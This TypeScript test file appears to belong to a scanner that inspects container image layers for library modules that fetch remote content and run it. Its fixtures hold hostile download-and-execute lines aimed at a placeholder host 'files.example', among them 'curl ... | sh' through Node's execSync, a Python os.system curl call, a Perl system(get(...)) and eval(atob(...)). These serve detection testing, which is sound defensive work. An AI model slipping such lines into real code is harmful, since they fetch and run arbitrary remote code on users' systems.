import { describe, expect, it } from 'vitest';
import { tar } from '../../../testkit/tar.ts';
import { DEFAULT_LIMITS } from '../../base/limits.ts';
import { analyzeLayer } from '../analyze-layer.ts';
import { LONG_LITERAL } from '../scan/mark-collector.ts';
import { MODULE_WORDS, runsWhatItGets } from './library-module.ts';
import { TextPack } from './text-pack.ts';

const ARMED = 'require("child_process").execSync("curl https://files.example/x | sh")\n';
const FETCHES = 'require("https").get("https://files.example/x", (r) => r.resume())\n';
const RUNS = 'const { spawn } = require("child_process");\nmodule.exports = spawn;\n';

async function* once(bytes: Buffer): AsyncGenerator<Uint8Array> {
  yield bytes;
}

async function keptOf(files: Readonly<Record<string, string>>, limits = DEFAULT_LIMITS): Promise<string[]> {
  const items = Object.entries(files).map(([path, data]) => ({ path, data }));
  const { facts } = await analyzeLayer(once(tar(items)), {
    limits,
    triggers: [{ literals: ['files.example'] }],
    expected: {},
  });
  return facts.entries.filter(({ text }) => text !== undefined).map(({ path }) => path);
}

describe('modules of libraries', () => {
  it('are kept where they run something and get something', async () => {
    const kept = await keptOf({
      'app/node_modules/a/index.js': ARMED,
      'app/node_modules/b/index.js': FETCHES,
      'app/node_modules/c/index.js': RUNS,
      'app/node_modules/d/readme.md': ARMED,
      'usr/lib/python3/dist-packages/x/run.py': 'import os\nos.system("curl https://files.example/x")\n',
      'usr/share/perl5/X.pm': 'use LWP::Simple;\nsystem(get("https://files.example/x"));\n',
    });
    expect(kept).toEqual([
      'app/node_modules/a/index.js',
      'usr/lib/python3/dist-packages/x/run.py',
      'usr/share/perl5/X.pm',
    ]);
  });

  it('are kept for a detector only where its triggers are in them, as before', async () => {
    const { marks, texts, facts } = await analyzeLayer(
      once(tar([{ path: 'app/node_modules/a/index.js', data: ARMED }])),
      {
        limits: DEFAULT_LIMITS,
        triggers: [{ literals: ['files.example'] }, { literals: ['other'] }],
        expected: {},
      },
    );
    expect(marks.map(({ texts: marked }) => marked.length)).toEqual([1, 0]);
    const entry = facts.entries[0];
    expect(entry?.text && new TextPack(texts).textAt(entry.text, entry.content)).toBe(ARMED);
  });

  it('take no more room than texts that nothing runs may', async () => {
    const limits = { ...DEFAULT_LIMITS, maxLayerTextBytes: 4 * (ARMED.length + 10) };
    const kept = await keptOf({ 'node_modules/a/a.js': ARMED, 'node_modules/a/b.js': `${ARMED}//` }, limits);
    expect(kept).toEqual(['node_modules/a/a.js']);
  });

  it('are told by words that are searched for with all other literals, and as those are written', () => {
    for (const word of MODULE_WORDS) {
      expect(word.length, word).toBeGreaterThanOrEqual(LONG_LITERAL);
      expect(word).toBe(word.toLowerCase());
    }
    expect(runsWhatItGets(Buffer.from('eval(atob("YQ=="))'))).toBe(true);
    expect(runsWhatItGets(Buffer.from('evaluate(socket)'))).toBe(false);
  });
});
